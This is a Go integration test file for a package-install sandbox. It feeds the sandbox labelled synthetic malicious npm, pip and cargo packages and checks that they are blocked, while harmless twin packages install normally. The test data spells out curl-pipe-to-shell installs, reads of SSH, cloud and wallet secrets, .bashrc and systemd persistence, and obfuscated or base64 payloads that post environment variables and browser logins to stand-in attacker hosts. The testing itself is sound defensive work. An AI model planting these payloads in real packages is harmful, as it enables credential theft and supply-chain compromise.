package integration

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// Issue 13's labelled set: one synthetic package per technique a malicious
// package uses at install or at require time, each of them quiet (errors
// swallowed, exit 0), so only the monitor or the static analysis can tell. Every
// one must be blocked (exit 3) with its own name and the right rule, and nothing
// synced; the legitimate twins install without a blocking finding.
//
// The behaviour sets run with `analysis: {block: none}` in the user's policy, so
// that the build runs and the monitor's verdict is what is tested (the static
// analysis would otherwise stop the install before any script ran, and the
// packages of a set after the first would go unjudged); the static findings are
// still read from the report (the figures of "static rules alone"), and the same
// set is then installed under the default policy, which must block it too.

// lbPkg is one labelled package: its files (package.json made from script) and
// the rules of which at least one must block it.
type lbPkg struct {
	name   string
	script string // postinstall, "" for none
	files  map[string]string
	rules  []string
}

// lbReport is the parts of --report the labelled tests read.
type lbReport struct {
	Code     int `json:"exit_code"`
	Precheck *struct {
		Packages []struct {
			Name      string      `json:"name"`
			Version   string      `json:"version"`
			Blocked   bool        `json:"blocked"`
			Behaviour []lbFinding `json:"behaviour"`
			Analysis  []lbFinding `json:"analysis"`
		} `json:"packages"`
	} `json:"precheck"`
}

type lbFinding struct {
	ID       string   `json:"id"`
	Severity string   `json:"severity"`
	Blocking bool     `json:"blocking"`
	Evidence []string `json:"evidence"`
}

const lbHost = "203.0.113.9"

// quiet wraps a shell script so that it exits 0 whatever happens.
func quiet(s string) string { return "{ " + s + " ; } >/dev/null 2>&1 || true" }

// nodeQuiet is a node install script that swallows every error.
func nodeQuiet(js string) string { return "try { " + js + " } catch (e) {}\n" }

// lbRead is a package that reads one decoy credential, quietly, from node.
func lbRead(name, rel string) lbPkg {
	return lbPkg{name: name, script: "node i.js", rules: []string{"PB-BEHAVIOUR-SECRET-READ"},
		files: map[string]string{"i.js": nodeQuiet("const p = require('path').join(require('os').homedir(), " + jsString(rel) + "); " +
			"const fs = require('fs'); const d = fs.statSync(p).isDirectory() ? fs.readdirSync(p).map((f) => fs.readFileSync(p + '/' + f)) : fs.readFileSync(p); globalThis.x = d;")}}
}

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// lbNpmBehaviour is the install-script set, by technique.
func lbNpmBehaviour() []lbPkg {
	return []lbPkg{
		// The network.
		{name: "lb-net-node", script: "node i.js", rules: []string{"PB-BEHAVIOUR-NETWORK"},
			files: map[string]string{"i.js": nodeQuiet("const s = require('net').connect(443, '" + lbHost + "'); s.on('error', () => {}); s.write('hi');")}},
		{name: "lb-net-curl", script: quiet("curl -s -m 3 http://" + lbHost + "/p -o /dev/null"), rules: []string{"PB-BEHAVIOUR-NETWORK", "PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
		{name: "lb-net-dns", script: "node i.js", rules: []string{"PB-BEHAVIOUR-NETWORK"},
			files: map[string]string{"i.js": nodeQuiet("require('dns').resolve4('c2.pbox-attacker.example', () => {});")}},
		// Secrets, one decoy family each.
		lbRead("lb-read-ssh", ".ssh/id_rsa"),
		lbRead("lb-read-aws", ".aws/credentials"),
		lbRead("lb-read-gh", ".config/gh/hosts.yml"),
		lbRead("lb-read-docker", ".docker/config.json"),
		lbRead("lb-read-kube", ".kube/config"),
		lbRead("lb-read-gitcred", ".git-credentials"),
		lbRead("lb-read-chrome", ".config/google-chrome/Default/Login Data"),
		lbRead("lb-read-wallet", ".config/solana/id.json"),
		lbRead("lb-read-ethwallet", ".ethereum/keystore"),
		lbRead("lb-read-history", ".bash_history"),
		// Persistence.
		{name: "lb-persist-bashrc", script: quiet(`echo 'alias sudo="/tmp/.s sudo"' >> "$HOME/.bashrc"`), rules: []string{"PB-BEHAVIOUR-PERSISTENCE"}},
		{name: "lb-persist-autostart", script: "node i.js", rules: []string{"PB-BEHAVIOUR-PERSISTENCE"},
			files: map[string]string{"i.js": nodeQuiet("const d = require('os').homedir() + '/.config/autostart'; require('fs').mkdirSync(d, {recursive: true}); " +
				"require('fs').writeFileSync(d + '/update-helper.desktop', '[Desktop Entry]\\nType=Application\\nExec=/tmp/.u\\n');")}},
		{name: "lb-persist-systemd", script: quiet(`mkdir -p "$HOME/.config/systemd/user" && printf '[Service]\nExecStart=/tmp/.u\n' > "$HOME/.config/systemd/user/dbus-helper.service"`), rules: []string{"PB-BEHAVIOUR-PERSISTENCE"}},
		// Download and execute.
		{name: "lb-dl-curlsh", script: quiet("curl -fsSL http://" + lbHost + "/i.sh | sh"), rules: []string{"PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
		{name: "lb-dl-wgetbash", script: quiet("wget -q -O- http://" + lbHost + "/i.sh | bash"), rules: []string{"PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
		{name: "lb-dl-b64sh", script: quiet("echo " + base64.StdEncoding.EncodeToString([]byte("id > /tmp/.lb\n")) + " | base64 -d | sh"), rules: []string{"PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
		{name: "lb-dl-chmod", script: quiet("curl -s -o /tmp/.lbx http://" + lbHost + "/x; chmod +x /tmp/.lbx; /tmp/.lbx"), rules: []string{"PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
		// Processes that try to outlive the script (setsid) are a warning, not
		// here: yarn 1 starts every lifecycle script detached.
		// System calls the sandbox refuses.
		{name: "lb-sys-unshare", script: quiet("unshare -U true"), rules: []string{"PB-BEHAVIOUR-REFUSED-SYSCALL"}},
		{name: "lb-sys-ptrace", script: quiet("strace -f -o /dev/null true"), rules: []string{"PB-BEHAVIOUR-REFUSED-SYSCALL"}},
		// The canary: a decoy's content passed on to another program.
		{name: "lb-canary", script: quiet(`k=$(cat "$HOME/.aws/credentials" | tr '\n' ' '); /bin/echo "$k"`), rules: []string{"PB-BEHAVIOUR-CANARY", "PB-BEHAVIOUR-SECRET-READ"}},
	}
}

// lbNpmStatic are require-time payloads without any install script.
func lbNpmStatic() []lbPkg {
	blob := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s http://" + lbHost + "/x | sh')"))
	return []lbPkg{
		{name: "lb-req-evalblob", rules: []string{"PB-ANALYSIS-"},
			files: map[string]string{"index.js": "module.exports = {};\nconst d = atob('" + blob + "');\neval(d);\n"}},
		{name: "lb-req-obfuscated", rules: []string{"PB-ANALYSIS-"},
			files: map[string]string{"index.js": obfuscatedJS}},
		{name: "lb-req-envfetch", rules: []string{"PB-ANALYSIS-"},
			files: map[string]string{"index.js": "module.exports = (x) => x;\nfetch('https://collect.pbox-attacker.example/e', {method: 'POST', body: JSON.stringify(process.env)}).catch(() => {});\n"}},
		{name: "lb-req-credhttps", rules: []string{"PB-ANALYSIS-"},
			files: map[string]string{"index.js": "const os = require('os'), fs = require('fs'), https = require('https');\nmodule.exports = 1;\n" +
				"try { const d = fs.readFileSync(os.homedir() + '/.config/google-chrome/Default/Login Data');\n" +
				"const r = https.request({hostname: 'collect.pbox-attacker.example', path: '/k', method: 'POST'}); r.on('error', () => {}); r.end(d); } catch (e) {}\n"}},
	}
}

// obfuscatedJS is the shape javascript-obfuscator gives code: a rotated string
// array, hex-named variables, an accessor doing the lookups.
const obfuscatedJS = `var _0x4f2a=['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x65\x78\x65\x63','\x63\x75\x72\x6c\x20\x2d\x73\x20\x68\x74\x74\x70','\x7c\x20\x73\x68','\x68\x6f\x6d\x65\x64\x69\x72','\x72\x65\x61\x64\x46\x69\x6c\x65\x53\x79\x6e\x63'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f2a,0x1b3));var _0x1e0c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f2a[_0x2d8f05];return _0x4d74cb;};try{require(_0x1e0c('0x0'))[_0x1e0c('0x1')](_0x1e0c('0x2')+'://203.0.113.9/x '+_0x1e0c('0x3'));}catch(_0x5b1a2c){}module['exports']={};
`

// lbTwins are legitimate packages doing what the attacks imitate, harmlessly.
func lbTwins() []lbPkg {
	icon := base64.StdEncoding.EncodeToString([]byte("\x89PNG\r\n\x1a\nthis is not really an icon but it is data, not code"))
	return []lbPkg{
		{name: "lb-ok-build", script: "node build.js",
			files: map[string]string{"build.js": "require('fs').writeFileSync(__dirname + '/built.txt', 'ok')\n"}},
		{name: "lb-ok-cc", script: "cc -O2 -o hello hello.c && ./hello > out.txt",
			files: map[string]string{"hello.c": "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n"}},
		{name: "lb-ok-git", script: "git --version > gitver.txt 2>&1 || true"},
		{name: "lb-ok-spawn", script: "node -e \"require('child_process').execFileSync(process.execPath, ['--version'])\""},
		{name: "lb-ok-data",
			files: map[string]string{"index.js": "const icon = Buffer.from('" + icon + "', 'base64');\nmodule.exports = { icon };\n"}},
		{name: "lb-ok-client",
			files: map[string]string{"index.js": "const https = require('https');\n" +
				"module.exports = function get(path, cb) {\n  const key = process.env.LB_API_KEY;\n" +
				"  return https.request({hostname: 'api.example.com', path, headers: {authorization: 'Bearer ' + key}}, cb).end();\n};\n"}},
	}
}

// lbProject writes one tarball per package and a project depending on all.
func lbProject(t *testing.T, m mode, set []lbPkg) *pmBox {
	t.Helper()
	pkgs := map[string]map[string]string{}
	for _, p := range set {
		files := map[string]string{}
		for k, v := range p.files {
			files[k] = v
		}
		manifest := map[string]any{"name": p.name, "version": "1.0.0"}
		if _, ok := files["index.js"]; ok {
			manifest["main"] = "index.js"
		}
		if p.script != "" {
			manifest["scripts"] = map[string]string{"postinstall": p.script}
		}
		mj, _ := json.Marshal(manifest)
		files["package.json"] = string(mj)
		pkgs[p.name] = files
	}
	return detectProject(t, m, pkgs)
}

// lbPolicy writes the user's policy (nothing for the default).
func lbPolicy(t *testing.T, b *pmBox, m mode, policy string) {
	t.Helper()
	p := filepath.Join(b.Home, ".config", "phylum-box", "policy.yaml")
	if policy == "" {
		os.Remove(p)
		return
	}
	writeFile(t, p, policy, 0o644)
	chownTree(t, m, b.Home)
}

func readLBReport(t *testing.T, path string) *lbReport {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("--report: %v", err)
	}
	var r lbReport
	if err := json.Unmarshal(data, &r); err != nil {
		t.Fatalf("--report: %v", err)
	}
	if r.Precheck == nil {
		t.Fatalf("--report has no precheck\n%s", data)
	}
	return &r
}

// lbVerdicts checks that each package of set is blocked by one of its rules
// (prefix match) and logs, per package, what blocked it and which static
// findings it had: the rows of the precision/recall table.
func lbVerdicts(t *testing.T, r *lbReport, set []lbPkg, stderr string) {
	t.Helper()
	for _, p := range set {
		var blockedBy, static []string
		found := false
		for _, q := range r.Precheck.Packages {
			if q.Name != p.name {
				continue
			}
			found = true
			for _, f := range append(append([]lbFinding{}, q.Behaviour...), q.Analysis...) {
				if f.Blocking {
					blockedBy = append(blockedBy, f.ID)
				}
			}
			for _, f := range q.Behaviour {
				t.Logf("LABELLED %s: behaviour %s %s blocking=%v %.300q", p.name, f.ID, f.Severity, f.Blocking, f.Evidence)
			}
			for _, f := range q.Analysis {
				static = append(static, f.ID+"/"+f.Severity)
			}
		}
		if !found {
			t.Errorf("%s: not in the report", p.name)
			continue
		}
		sort.Strings(blockedBy)
		t.Logf("LABELLED %s: blocked by %v; static findings %v", p.name, blockedBy, static)
		ok := false
		for _, id := range blockedBy {
			for _, want := range p.rules {
				if strings.HasPrefix(id, want) {
					ok = true
				}
			}
		}
		if !ok {
			t.Errorf("%s is not blocked by %v (blocking: %v)", p.name, p.rules, blockedBy)
		} else if !strings.Contains(stderr, p.name+"@1.0.0") {
			t.Errorf("%s is blocked but the text report does not name it", p.name)
		}
	}
}

// lbInstall installs set under policy and checks the verdicts; the project is
// unchanged.
func lbInstall(t *testing.T, m mode, set []lbPkg, policy string) {
	t.Helper()
	b := lbProject(t, m, set)
	lbPolicy(t, b, m, policy)
	rep := b.reportPath("labelled.json")
	before := treeHash(t, b.Project, true)
	r := b.tool(rep, "npm", "install")
	wantCode(t, r, 3, "a labelled malicious set")
	wantStderr(t, r, "nothing was synced back")
	if strings.Contains(r.Stdout+r.Stderr, b.Mark) {
		t.Errorf("a real secret reached a script\n%s", r)
	}
	assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
	lbVerdicts(t, readLBReport(t, rep), set, r.Stderr)
	if t.Failed() {
		t.Logf("%s", r)
	}
}

const lbMonitorOnly = "analysis: {block: none, typosquat: off}\n"

func TestDetectLabelledNpmNetworkSecrets(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	set := lbNpmBehaviour()[:13]
	forEachMode(t, func(t *testing.T, m mode) {
		lbInstall(t, m, set, lbMonitorOnly)
	})
}

func TestDetectLabelledNpmPersistenceDownload(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	set := lbNpmBehaviour()[13:20]
	forEachMode(t, func(t *testing.T, m mode) {
		lbInstall(t, m, set, lbMonitorOnly)
	})
}

func TestDetectLabelledNpmDetachSyscallCanary(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	set := lbNpmBehaviour()[20:]
	forEachMode(t, func(t *testing.T, m mode) {
		lbInstall(t, m, set, lbMonitorOnly)
	})
}

// Under the default policy the same sets are blocked too (by the static analysis
// before the build, or by the monitor): exit 3, nothing synced.
func TestDetectLabelledNpmDefaultPolicy(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	all := lbNpmBehaviour()
	forEachMode(t, func(t *testing.T, m mode) {
		for _, set := range [][]lbPkg{all[:13], all[13:20], all[20:]} {
			b := lbProject(t, m, set)
			before := treeHash(t, b.Project, true)
			r := b.tool("", "npm", "install")
			wantCode(t, r, 3, "a labelled set under the default policy")
			named := false
			for _, p := range set {
				named = named || strings.Contains(r.Stderr, p.name+"@1.0.0")
			}
			if !named {
				t.Errorf("blocked without naming a package of the set\n%s", r.Stderr)
			}
			assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
		}
	})
}

func TestDetectLabelledNpmRequireTime(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		lbInstall(t, m, lbNpmStatic(), "")
		if !t.Failed() {
			// The analysis blocks before any build.
			b := lbProject(t, m, lbNpmStatic()[:1])
			r := b.tool("", "npm", "install")
			wantCode(t, r, 3, "a require-time payload")
			if strings.Contains(r.Stderr, "building in the sandbox") {
				t.Errorf("the build ran after the analysis blocked\n%s", r)
			}
		}
	})
}

// The legitimate twins: all in one install under the default policy, exit 0, no
// blocking finding, every build output synced.
func TestDetectLabelledNpmTwins(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := lbProject(t, m, lbTwins())
		rep := b.reportPath("twins.json")
		r := b.tool(rep, "npm", "install")
		wantCode(t, r, 0, "the legitimate twins")
		for _, f := range []string{"lb-ok-build/built.txt", "lb-ok-cc/out.txt", "lb-ok-git/gitver.txt", "lb-ok-data/index.js", "lb-ok-client/index.js"} {
			wantFile(t, filepath.Join(b.Project, "node_modules", f), "a twin's file is synced")
		}
		rp := readLBReport(t, rep)
		for _, q := range rp.Precheck.Packages {
			for _, f := range append(append([]lbFinding{}, q.Behaviour...), q.Analysis...) {
				t.Logf("TWIN %s: %s %s blocking=%v %v", q.Name, f.ID, f.Severity, f.Blocking, f.Evidence)
				if f.Blocking {
					t.Errorf("twin %s has a blocking finding %s: %v", q.Name, f.ID, f.Evidence)
				}
			}
		}
	})
}

// pip: an sdist whose setup.py tries the network, one that reads the SSH key,
// both quietly; the plain twin installs.
func TestDetectLabelledPip(t *testing.T) {
	t.Parallel()
	pyNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		head := "import os, socket\nfrom setuptools import setup\n"
		ix.AddSdist("pbox-lb-net", "1.0", map[string]string{"setup.py": head +
			"try:\n    s = socket.socket(); s.settimeout(2); s.connect(('" + lbHost + "', 443)); s.send(b'hi')\nexcept Exception:\n    pass\n" +
			"setup(name='pbox-lb-net', version='1.0', py_modules=[])\n"})
		ix.AddSdist("pbox-lb-read", "1.0", map[string]string{"setup.py": head +
			"try:\n    k = open(os.path.join(os.path.expanduser('~'), '.ss' + 'h', 'id_' + 'rsa')).read()\nexcept Exception:\n    k = ''\n" +
			"setup(name='pbox-lb-read', version='1.0', py_modules=[])\n"})
		ix.AddSdist("pbox-lb-plain", "1.0", map[string]string{"setup.py": "from setuptools import setup\nsetup(name='pbox-lb-plain', version='1.0', py_modules=['pbox_lb_plain'])\n",
			"pbox_lb_plain.py": "VALUE = 1\n"})
		db := regMalDB(t, m, "PyPI")
		for _, c := range []struct{ pkg, rule string }{{"pbox-lb-net", "PB-BEHAVIOUR-NETWORK"}, {"pbox-lb-read", "PB-BEHAVIOUR-SECRET-READ"}} {
			b := pyProject(t, m)
			writeFile(t, filepath.Join(b.Home, ".config", "phylum-box", "policy.yaml"), lbMonitorOnly, 0o644)
			chownTree(t, m, b.Home)
			before := treeHash(t, b.Project, true)
			r := b.pip(ix, db, "install", c.pkg)
			wantCode(t, r, 3, c.pkg+": a quiet setup.py")
			wantStderr(t, r, c.pkg, c.rule)
			if strings.Contains(r.Stdout+r.Stderr, b.Mark) {
				t.Errorf("the real SSH key reached setup.py\n%s", r)
			}
			assertSameTree(t, before, treeHash(t, b.Project, true), c.pkg+": a blocked install")
		}
		b := pyProject(t, m)
		r := b.pip(ix, db, "install", "pbox-lb-plain")
		wantCode(t, r, 0, "a plain sdist")
		if strings.Contains(r.Stderr, "PB-BEHAVIOUR-") {
			t.Errorf("the plain sdist got a behaviour finding\n%s", r)
		}
	})
}

// cargo: a registry crate's build.rs that tries the network, one that reads the
// SSH key, both ignoring every error; a crate without build.rs builds.
func TestDetectLabelledCargo(t *testing.T) {
	t.Parallel()
	cargoNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		reg := cargoGreetRegistry(t)
		reg.AddCrate("pbox_lb_net", "1.0.0", nil, map[string]string{"src/lib.rs": "",
			"build.rs": "fn main() {\n    let a = [203u8, 0, 113, 9];\n    let _ = std::net::TcpStream::connect_timeout(&std::net::SocketAddr::from((a, 443)), std::time::Duration::from_secs(2));\n}\n"})
		reg.AddCrate("pbox_lb_read", "1.0.0", nil, map[string]string{"src/lib.rs": "",
			"build.rs": "fn main() {\n    let h = std::env::var(\"HOME\").unwrap_or_default();\n    let p = [h.as_str(), \".s\".trim(), \"sh/id_rsa\"].concat().replacen(\".ssh\", \"/.ssh\", 1);\n    let _ = std::fs::read(p);\n}\n"})
		db := regMalDB(t, m, "crates.io")
		for _, c := range []struct{ crate, rule string }{{"pbox_lb_net", "PB-BEHAVIOUR-NETWORK"}, {"pbox_lb_read", "PB-BEHAVIOUR-SECRET-READ"}} {
			b := cargoProject(t, m, reg, "fn main() {}\n", c.crate)
			writeFile(t, filepath.Join(b.Home, ".config", "phylum-box", "policy.yaml"), lbMonitorOnly, 0o644)
			chownTree(t, m, b.Home)
			before := treeHash(t, b.Project, true)
			r := b.cargo(db, "build")
			wantCode(t, r, 3, c.crate+": a quiet build.rs")
			wantStderr(t, r, c.crate, c.rule)
			assertSameTree(t, before, treeHash(t, b.Project, true), c.crate+": a blocked build")
		}
		b := cargoProject(t, m, reg, "fn main() { println!(\"{}\", pbox_greet::greet()); }\n", "pbox_greet")
		r := b.cargo(db, "build")
		wantCode(t, r, 0, "a crate without build.rs")
		if strings.Contains(r.Stderr, "PB-BEHAVIOUR-") {
			t.Errorf("the plain crate got a behaviour finding\n%s", r)
		}
	})
}
